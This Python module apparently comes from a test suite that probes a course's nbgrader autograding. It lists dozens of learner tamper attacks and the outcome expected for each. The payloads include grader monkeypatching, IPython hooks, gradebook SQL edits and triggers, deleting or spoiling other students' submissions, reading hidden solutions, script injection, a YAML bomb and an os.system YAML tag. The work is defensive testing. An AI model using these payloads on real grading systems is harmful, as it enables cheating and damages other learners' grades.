"""The attacks of the tamper suite: what each hands in, what it does to nbgrader's own autograde, and what it tries.

Everybody hands in `welcome` with answers that earn 3 of 6 points, unless the attack says otherwise.
"""

from __future__ import annotations

import itertools
import json
import os
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from enum import Enum, auto
from pathlib import Path
from typing import Any

from curriculum.artifacts import yaml_text
from curriculum.cohort.course import Course
from curriculum.cohort.simulate import write_submission

LESSON = "welcome"
WRONG, RIGHT, UNTOLD = "later_standup/no_date", "later_standup", "later_standup/never_told"
FULL, BASE, UNTOLD_POINTS = 6.0, 3.0, 5.0

HONEST = "honest"
"""Handed in right answers, before everybody else; some attacks are after them."""

SECRET = "secret-of-the-course-7f3a"
"""Stands in the course's source folder, where learners may not look."""

NEIGHBOURS_WORDS = "these-are-the-neighbours-words"
"""Stands in the answers of `honest`."""

SCRIPT = "window.ownedByALearner"


class Stock(Enum):
    """What an attack does to nbgrader's own autograde."""

    GAINS = auto()
    """The attacker gets full marks for wrong answers."""
    LEAKS = auto()
    """Something that the attacker may not see is in what is made for them: the graded notebook, the feedback."""
    INJECTS = auto()
    """A script of theirs runs in the browser of whoever opens the feedback or formgrader."""
    HARMS = auto()
    """Another learner's grade is changed or lost."""
    LITTERS = auto()
    """Something of theirs stays behind in the course's folders."""
    LOSES = auto()
    """They get less than they earned, most often a zero as if they had earned it, and nobody is told why."""
    HOLDS = auto()
    """Nothing: autograde stands against it."""


Change = Callable[[Course, str, Path], Any]
"""Changes what a learner of a course hands in; gets their folder."""


@dataclass(frozen=True)
class Attack:
    """One learner's attempt."""

    id: str
    stock: Stock
    cells: tuple[str, ...] = ()
    """Code cells, put in front of the check."""
    change: Change | None = None
    made_from: str = WRONG
    earned: float | None = BASE
    """What the answers are worth; None where `cohort grade` refuses them: they cannot be read, or are not theirs."""
    copied: bool = False
    """The answers are the neighbour's, and are worth what they are worth in the attacker's own world: not all."""
    alone: bool = False
    """It is after the whole batch, so it gets a course of its own when nbgrader grades."""

    @property
    def learner(self) -> str:
        return f"m-{self.id.replace('_', '-')}"

    @property
    def victim(self) -> str:
        """Who is graded right after the attacker, and did nothing wrong."""
        return f"{self.learner}_victim"


def hand_in(course: Course, attack: Attack) -> None:
    """Hand in what the attack hands in, and the right answers of its victim."""
    write_submission(course, attack.victim, LESSON, RIGHT)
    write_submission(course, attack.learner, LESSON, attack.made_from)
    folder = course.submitted(attack.learner, LESSON)
    if attack.cells:
        put_cells(folder, [fill_in(source, attack) for source in attack.cells])
    if attack.change:
        attack.change(course, attack.learner, folder)


def hand_in_honestly(course: Course) -> None:
    """Put the secret into the course, and hand in what `honest` did."""
    (course.source(LESSON) / "solution.yaml").write_text(f"decider: {SECRET}\n")
    write_submission(course, HONEST, LESSON, RIGHT)
    path = course.submitted(HONEST, LESSON) / "answers" / "ask.yaml"
    path.write_text(path.read_text().replace("Can we", f"({NEIGHBOURS_WORDS}) Can we"))


def fill_in(source: str, attack: Attack) -> str:
    for name, value in {"ATTACKER": attack.learner, "VICTIM": attack.victim, "NEIGHBOUR": HONEST}.items():
        source = source.replace(name, repr(value))
    return source.strip()


def put_cells(folder: Path, sources: list[str]) -> None:
    def insert(cells: list[dict[str, Any]]) -> None:
        place = cells.index(check_cell(cells))
        cells[place:place] = [code(f"own-{n}", source) for n, source in enumerate(sources)]

    edit(folder, insert)


def code(id: str, source: str) -> dict[str, Any]:
    return {"cell_type": "code", "id": id, "metadata": {}, "source": source, "outputs": [], "execution_count": None}


def edit(folder: Path, change: Callable[[list[dict[str, Any]]], Any]) -> None:
    path = folder / f"{LESSON}.ipynb"
    notebook = json.loads(path.read_text("utf-8"))
    change(notebook["cells"])
    path.write_text(json.dumps(notebook), "utf-8")


def check_cell(cells: list[dict[str, Any]]) -> dict[str, Any]:
    return next(cell for cell in cells if cell["metadata"].get("nbgrader", {}).get("grade_id") == "check_ask")


def edited(change: Callable[[list[dict[str, Any]]], Any]) -> Change:
    return lambda course, learner, folder: edit(folder, change)


# Into the process that grades


PATCH = "import curriculum.notebook.lesson as m\nm.Lesson.points = lambda self, kind: 6.0"

REPLACE_MODULE = """
import sys, types
fake = types.ModuleType("curriculum")
class Lesson:
    def check(self, kind): pass
    def points(self, kind): return 6.0
fake.open_lesson = lambda slug: Lesson()
sys.modules["curriculum"] = fake
from curriculum import open_lesson
lesson = open_lesson("welcome")
"""

SHADOW = """
import sys
del sys.modules["yaml"]
here = sys.path[:]
sys.path[:] = [path for path in here if "site-packages" in path or "lib" in path]
import yaml as real
sys.path[:] = here
sys.modules["yaml"] = real
def pay(*_):
    import curriculum.notebook.lesson
    curriculum.notebook.lesson.Lesson.points = lambda self, kind: 6.0
get_ipython = __import__("IPython").get_ipython
get_ipython().events.register("pre_run_cell", pay)
"""
"""A module beside the notebook, named like one that the course imports."""

OVERWRITE_GRADER = """
import graders.grade, pathlib
path = pathlib.Path(graders.grade.__file__)
assert "copy-of-the-course" in str(path)
path.write_text(path.read_text() + "\\n\\ndef _points(findings, maximum):\\n    return 0.0\\n")
"""

AST_TRANSFORMER = """
import ast
class Pay(ast.NodeTransformer):
    def visit_Call(self, node):
        return ast.Constant(6.0) if getattr(node.func, "attr", "") == "points" else node
get_ipython().ast_transformers.append(Pay())
"""

INPUT_TRANSFORMER = """
get_ipython().input_transformers_cleanup.append(
    lambda lines: ["6.0\\n"] if any("lesson.points" in line for line in lines) else lines)
"""

RUN_AST_NODES = """
import ast
shell = get_ipython()
run = shell.run_ast_nodes
async def pay(nodes, *a, **k):
    if any("points" in ast.dump(node) for node in nodes):
        nodes = ast.parse("6.0").body
    return await run(nodes, *a, **k)
shell.run_ast_nodes = pay
"""

DISPLAYHOOK = """
import sys
type(lesson).check = lambda self, kind: sys.displayhook(6.0)
"""

POST_RUN_CELL = """
type(lesson).points = lambda self, kind: None
lesson.check = lambda kind: None
get_ipython().events.register("post_run_cell", lambda result: get_ipython().displayhook(6.0))
"""

DO_EXECUTE = """
kernel = get_ipython().kernel
async def nothing(*a, **k):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
kernel.do_execute = nothing
"""

AT_GRADING_TIME = """
import pathlib
from curriculum.artifacts import yaml_text
from curriculum.cases import load_case
from curriculum.course.fixtures import load_exemplar
case = yaml_text.parse(pathlib.Path("answers/case.yaml").read_text()).data
for name, data in load_exemplar(load_case("welcome", case["variant"]), "later_standup").items():
    pathlib.Path("answers", name + ".yaml").write_text(yaml_text.dump(data))
"""

GRADER_OF_THE_CASE = """
import graders.welcome as g
for criterion in g.rubric.criteria.values():
    object.__setattr__(criterion, "needs", ())
    object.__setattr__(criterion, "rests_on", ())
    object.__setattr__(criterion, "asks_case", False)
    object.__setattr__(criterion, "judge", lambda ask: iter(()))
"""

EVERYTHING_IS_ENOUGH = """
import curriculum.notebook.lesson as m
m.min = m.max = lambda *a: 6.0
"""

# Around it: the gradebook, the folders, the machine

SQL = """
import sqlite3
db = sqlite3.connect("../../../gradebook.db", timeout=30)
rows = db.execute("select g.id from grade g join submitted_notebook n on g.notebook_id = n.id "
                  "join submitted_assignment a on n.assignment_id = a.id join base_cell c on g.cell_id = c.id "
                  "where a.student_id = ? and c.name = 'check_ask'", (WHO,)).fetchall()
for row in rows:
    db.execute("update grade set CHANGE where id = ?", row)
db.commit()
"""

OWN_SCORE = SQL.replace("WHO", "ATTACKER").replace("CHANGE", "manual_score = 6.0")
EXTRA_CREDIT = SQL.replace("WHO", "ATTACKER").replace("CHANGE", "extra_credit = 50.0")
VICTIMS_SCORE = """
import sqlite3, uuid
db = sqlite3.connect("../../../gradebook.db", timeout=30)
(assignment,) = db.execute("select id from assignment where name = 'welcome'").fetchone()
db.execute("insert or ignore into student (id) values (?)", (VICTIM,))
db.execute("create trigger lower after update of auto_score on grade when new.auto_score > 0 and new.notebook_id in "
           "(select n.id from submitted_notebook n join submitted_assignment a on n.assignment_id = a.id "
           "where a.student_id = 'WHOM') begin update grade set manual_score = 0 where id = new.id; end"
           .replace("WHOM", VICTIM))
db.commit()
"""

LATER = """
import subprocess, sys
subprocess.Popen([sys.executable, "-c", '''
import sqlite3, time
for _ in range(600):
    db = sqlite3.connect("../../../gradebook.db", timeout=30)
    done = db.execute("select g.id from grade g join submitted_notebook n on g.notebook_id = n.id "
                      "join submitted_assignment a on n.assignment_id = a.id join base_cell c on g.cell_id = c.id "
                      "where a.student_id = ? and c.name = 'check_ask' and g.auto_score is not null",
                      (%r,)).fetchall()
    if done:
        db.execute("update grade set manual_score = 6.0 where id = ?", done[0])
        db.commit()
        break
    db.close()
    time.sleep(0.1)
''' % ATTACKER], start_new_session=True)
"""

READ_NEIGHBOUR = "print(open('../../../submitted/' + NEIGHBOUR + '/welcome/answers/ask.yaml').read())"
READ_SOURCE = "print(open('../../../source/welcome/solution.yaml').read())"
DELETE_VICTIM = "import shutil\nshutil.rmtree('../../../submitted/' + VICTIM)"
SPOIL_VICTIM = "open('../../../submitted/' + VICTIM + '/welcome/answers/ask.yaml', 'w').write('decider: noor\\n')"
EXIT = "import os\nos._exit(1)"
TOO_MUCH = "type(lesson).points = lambda self, kind: 600.0"
KILL_PARENT = "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"
BIG_FILE = "open('big.bin', 'wb').truncate(500_000_000)"
LEAVE_ENVIRONMENT = "import os, pathlib\npathlib.Path('../../../submitted/planted').mkdir(exist_ok=True)"
STUBBORN = """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        while True: pass
    except BaseException: pass
"""


# What is handed in beside the answers


def shadow(course: Course, learner: str, folder: Path) -> None:
    (folder / "yaml.py").write_text(SHADOW)


def twice(cells: list[dict[str, Any]]) -> None:
    cells.append(check_cell(cells) | {"id": "again"})


def not_graded(cells: list[dict[str, Any]]) -> None:
    check_cell(cells)["metadata"]["nbgrader"].update(grade=False, points=0)


def worth_more(cells: list[dict[str, Any]]) -> None:
    check_cell(cells)["metadata"]["nbgrader"]["points"] = 600


def as_solution(cells: list[dict[str, Any]]) -> None:
    check_cell(cells)["metadata"]["nbgrader"].update(solution=True, locked=False)


def number_for_check(cells: list[dict[str, Any]]) -> None:
    check_cell(cells)["source"] = "6.0"


def without_check(cells: list[dict[str, Any]]) -> None:
    cells.remove(check_cell(cells))


def check_first(cells: list[dict[str, Any]]) -> None:
    check = check_cell(cells)
    cells.remove(check)
    cells.insert(0, check)


def bonus_cell(cells: list[dict[str, Any]]) -> None:
    mark = {"schema_version": 3, "grade": True, "solution": False, "locked": False, "task": False, "points": 50,
            "grade_id": "bonus", "cell_type": "code"}  # fmt: skip
    cells.append({**code("bonus", "50.0"), "metadata": {"nbgrader": mark}})


def script_in_text(cells: list[dict[str, Any]]) -> None:
    cells.append({"cell_type": "markdown", "id": "hi", "metadata": {}, "source": f"<script>{SCRIPT} = 1</script>"})


def script_in_answers(course: Course, learner: str, folder: Path) -> None:
    path = folder / "answers" / "ask.yaml"
    path.write_text(path.read_text().replace("Can we", f"<script>{SCRIPT} = 1</script> Can we"))


def no_notebook(course: Course, learner: str, folder: Path) -> None:
    (folder / f"{LESSON}.ipynb").unlink()


def broken_notebook(course: Course, learner: str, folder: Path) -> None:
    (folder / f"{LESSON}.ipynb").write_text('{"cells": [')


def old_format(course: Course, learner: str, folder: Path) -> None:
    path = folder / f"{LESSON}.ipynb"
    path.write_text(json.dumps(json.loads(path.read_text()) | {"nbformat": 99}))


def strange_kernel(course: Course, learner: str, folder: Path) -> None:
    path = folder / f"{LESSON}.ipynb"
    notebook = json.loads(path.read_text())
    notebook["metadata"]["kernelspec"] = {"name": "perl", "display_name": "Perl", "language": "perl"}
    path.write_text(json.dumps(notebook))


def another_world(course: Course, learner: str, folder: Path) -> None:
    """The right answers of the neighbour, who was dealt another world, with their case file."""
    shutil.rmtree(folder / "answers")
    shutil.copytree(course.submitted(HONEST, LESSON) / "answers", folder / "answers")


def neighbours_words(course: Course, learner: str, folder: Path) -> None:
    """The neighbour's answers with one's own case file."""
    for name in ("ask.yaml", "first_talk.yaml"):
        shutil.copy(course.submitted(HONEST, LESSON) / "answers" / name, folder / "answers")


def linked_answers(course: Course, learner: str, folder: Path) -> None:
    shutil.rmtree(folder / "answers")
    (folder / "answers").symlink_to(Path("../..") / HONEST / LESSON / "answers")


def linked_artifact(course: Course, learner: str, folder: Path) -> None:
    path = folder / "answers" / "ask.yaml"
    path.unlink()
    path.symlink_to(Path("../../../..") / "source" / LESSON / "solution.yaml")


def linked_submission(course: Course, learner: str, folder: Path) -> None:
    shutil.rmtree(folder)
    folder.symlink_to(Path("..") / HONEST / LESSON)


def no_case(course: Course, learner: str, folder: Path) -> None:
    (folder / "answers" / "case.yaml").unlink()


def huge_answer(course: Course, learner: str, folder: Path) -> None:
    os.truncate(folder / "answers" / "ask.yaml", 500_000_000)


def written(name: str, text: str) -> Change:
    """With this text in a file of the answers."""
    return lambda course, learner, folder: (folder / "answers" / name).write_text(text)


def misnamed(course: Course, learner: str, folder: Path) -> None:
    (folder / "answers" / "ask.yaml").rename(folder / "answers" / "Ask.yml")


def forged_progress(course: Course, learner: str, folder: Path) -> None:
    import sqlite3

    (folder / ".curriculum").mkdir()
    with sqlite3.connect(folder / ".curriculum" / "progress.sqlite") as db:
        db.execute("create table checks (lesson, artifact, points, maximum)")
        db.execute("insert into checks values ('welcome', 'ask', 6, 6)")
    (folder / "answers" / "report.yaml").write_text("points: 6\nstatus: graded\n")


def another_cohort(course: Course, learner: str, folder: Path) -> None:
    (folder / "cohort.json").write_text('{"cohort": "the-easy-one"}')


def hard_link(course: Course, learner: str, folder: Path) -> None:
    """A hard link, which looks like any file, to what the neighbour wrote."""
    (folder / "answers" / "ask.yaml").unlink()
    os.link(course.submitted(HONEST, LESSON) / "answers" / "ask.yaml", folder / "answers" / "ask.yaml")


BOMB = "a: &a [lol, lol]\n" + "".join(
    f"{name}: &{name} [{', '.join([f'*{before}'] * 9)}]\n" for before, name in itertools.pairwise("abcdefghij")
)
DEEP = "decider: " + "[" * 20_000 + "]" * 20_000 + "\n"

JUMPED = yaml_text.dump({"conversation": "first_talk", "attempts": [["play_back", "ask_calendar_after", "thank"]]})
TOLD = yaml_text.dump(
    {"conversation": "first_talk", "attempts": [["ask_average", "take_average"]], "facts": ["refresh_ready"]}
)
ENDLESS = "conversation: first_talk\nattempts:\n" + f"- [{', '.join(['ask_when_ready'] * 399)}]\n" * 99

G, K, J, H, T, L, N = Stock.GAINS, Stock.LEAKS, Stock.INJECTS, Stock.HARMS, Stock.LITTERS, Stock.LOSES, Stock.HOLDS

ATTACKS = (
    Attack("patch_grader", G, (PATCH,)),
    Attack("patch_criteria", G, (GRADER_OF_THE_CASE,)),
    Attack("replace_module", G, (REPLACE_MODULE,)),
    Attack("shadow_module", G, change=shadow),
    Attack("overwrite_grader", H, (OVERWRITE_GRADER,), alone=True),
    Attack("ast_transformer", G, (AST_TRANSFORMER,)),
    Attack("input_transformer", G, (INPUT_TRANSFORMER,)),
    Attack("run_ast_nodes", G, (RUN_AST_NODES,)),
    Attack("displayhook", G, (DISPLAYHOOK,)),
    Attack("post_run_cell", G, (POST_RUN_CELL,)),
    Attack("do_execute", G, (DO_EXECUTE,)),
    Attack("everything_is_enough", G, (EVERYTHING_IS_ENOUGH,)),
    Attack("right_answers_at_grading_time", G, (AT_GRADING_TIME,)),
    Attack("own_score_in_gradebook", G, (OWN_SCORE,)),
    Attack("extra_credit_in_gradebook", G, (EXTRA_CREDIT,)),
    Attack("process_left_behind", G, (LATER,)),
    Attack("another_world", G, change=another_world, earned=None),
    Attack("linked_answers", L, change=linked_answers, earned=None),
    Attack("linked_submission", G, change=linked_submission, earned=None),
    Attack("read_neighbour", K, (READ_NEIGHBOUR,)),
    Attack("read_source", K, (READ_SOURCE,)),
    Attack("linked_artifact", K, change=linked_artifact, earned=None),
    Attack("script_in_text", J, change=edited(script_in_text)),
    Attack("script_in_answers", N, change=script_in_answers),
    Attack("victims_score_in_gradebook", H, (VICTIMS_SCORE,)),
    Attack("delete_victim", H, (DELETE_VICTIM,)),
    Attack("spoil_victim", H, (SPOIL_VICTIM,)),
    Attack("duplicated_cell", H, change=edited(twice), alone=True),
    Attack("kill_parent", H, (KILL_PARENT,), alone=True),
    Attack("big_file", T, (BIG_FILE,)),
    Attack("planted_folder", T, (LEAVE_ENVIRONMENT,)),
    Attack("exit", L, (EXIT,)),
    Attack("too_much", L, (TOO_MUCH,)),
    Attack("stubborn_loop", L, (STUBBORN,), alone=True),
    Attack("not_graded", L, change=edited(not_graded)),
    Attack("as_solution", L, change=edited(as_solution)),
    Attack("check_first", N, change=edited(check_first)),
    Attack("no_notebook", L, change=no_notebook),
    Attack("broken_notebook", L, change=broken_notebook),
    Attack("old_format", L, change=old_format),
    Attack("no_case", L, change=no_case, made_from=RIGHT, earned=FULL),
    Attack("misnamed", L, change=misnamed, earned=None),
    Attack("huge_answer", L, change=huge_answer, earned=None),
    Attack("yaml_bomb", L, change=written("ask.yaml", BOMB), earned=None),
    Attack("deep_yaml", L, change=written("ask.yaml", DEEP), earned=None),
    Attack("python_in_yaml", L, change=written("ask.yaml", "ask: !!python/object/apply:os.system ['touch owned']\n"),
           earned=None),
    Attack("forged_transcript", N, change=written("first_talk.yaml", TOLD), made_from=UNTOLD, earned=None),
    Attack("endless_transcript", N, change=written("first_talk.yaml", ENDLESS), made_from=UNTOLD, earned=None),
    Attack("jumped_transcript", N, change=written("first_talk.yaml", JUMPED), made_from=UNTOLD, earned=UNTOLD_POINTS),
    Attack("forged_progress", N, change=forged_progress),
    Attack("another_cohort", N, change=another_cohort),
    Attack("neighbours_words", N, change=neighbours_words, copied=True),
    Attack("hard_link", N, change=hard_link, copied=True),
    Attack("shadowed_builtins", N, ("float = min = max = lambda *a: 6.0",)),
    Attack("atexit", N, ("import atexit\natexit.register(print, 6.0)",)),
    Attack("print_numbers", N, ("print(6.0)\n6.0",)),
    Attack("edited_check", N, change=edited(number_for_check)),
    Attack("deleted_check", L, change=edited(without_check)),
    Attack("worth_more", N, change=edited(worth_more)),
    Attack("bonus_cell", L, change=edited(bonus_cell)),
    Attack("strange_kernel", N, change=strange_kernel),
)  # fmt: skip
